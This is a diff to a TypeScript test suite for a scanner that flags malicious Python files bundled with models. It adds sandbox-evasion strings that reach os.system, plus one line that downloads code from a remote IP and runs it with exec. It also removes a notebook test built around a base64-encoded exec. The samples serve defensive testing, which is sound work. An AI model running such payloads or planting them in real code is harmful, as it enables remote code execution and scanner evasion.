@@ -46,6 +46,10 @@ const ATTACKS = [
   "class A:\n  def __class_getitem__(cls, k):\n    import os\n    os.system(k)\nA['id']",
   "class D:\n  def __add__(self, o):\n    import os\n    os.system('id')\nD() + 1",
   "def f():\n  import os\n  os.system('id')\nlist(map(lambda x: x(), [f]))",
+  "__import__('os.path').system('id')",
+  "__import__('os.path', fromlist=['os']).os.system('id')",
+  "__import__('importlib.util').import_module('os').system('id')",
+  "__import__('builtins').exec(__import__('urllib.request').request.urlopen('http://203.0.113.5/p').read())",
 ];
 
 // What honest files beside models do. None of it may be a signal.
@@ -117,15 +121,5 @@ describe("Python beside a model", () => {
     const start = cpuTime();
     expect(verdict(code)).toBe("clean");
     expect(cpuTime() - start).toBeLessThan(3_000);
-  });
-  it("alarms in a notebook only at what nobody writes in good faith", () => {
-    const notebook = (source: string): string =>
-      JSON.stringify({ cells: [{ cell_type: "code", source: [source] }] });
-    expect(
-      verdict(notebook("!pip install x\n%matplotlib inline\nimport os\nos.system('ls')"), "a.ipynb"),
-    ).toBe("clean");
-    expect(verdict(notebook("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))"), "a.ipynb")).toBe(
-      "malicious",
-    );
   });
 });
